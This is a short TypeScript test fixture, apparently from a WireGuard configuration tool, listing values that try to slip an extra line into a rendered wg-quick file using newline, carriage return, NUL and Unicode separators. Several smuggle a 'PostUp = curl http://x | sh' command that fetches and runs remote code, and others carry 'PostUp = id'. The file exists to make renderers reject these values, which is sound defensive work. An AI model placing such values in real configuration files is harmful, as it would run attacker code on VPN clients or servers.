/**
 * Values that try to add a line to a rendered file (a client's wg-quick file, a node's push): each
 * with the separator it tries. wg-quick (bash `read`) splits on LF only, but the Android app also
 * splits on CR and the Apple apps on VT, FF, NEL and U+2028/U+2029; `#` cuts a line short, NUL ends
 * a C string. Every renderer and every input path must refuse all of them.
 */
export const INJECTIONS: ReadonlyArray<readonly [what: string, value: string]> = [
  ['LF', '1.1.1.1\nPostUp = curl http://x | sh'],
  ['CR alone', '1.1.1.1\rPostUp = curl http://x | sh'],
  ['CRLF', '1.1.1.1\r\nPostUp = curl http://x | sh'],
  ['a comment sign', '1.1.1.1 # PostUp'],
  ['NUL', '1.1.1.1\u0000PostUp = id'],
  ['NEL (U+0085)', '1.1.1.1\u0085PostUp = id'],
  ['a line separator (U+2028)', '1.1.1.1\u2028PostUp = id'],
  ['a paragraph separator (U+2029)', '1.1.1.1\u2029PostUp = id'],
  ['a vertical tab', '1.1.1.1\u000bPostUp = id'],
  ['a trailing line feed', '1.1.1.1\n'],
];

/** Each injection with the address replaced, for a field that holds something else (a network, a key…). */
export function injectionsInto(value: string): Array<readonly [what: string, value: string]> {
  return INJECTIONS.map(([what, injected]) => [what, injected.replace('1.1.1.1', value)] as const);
}
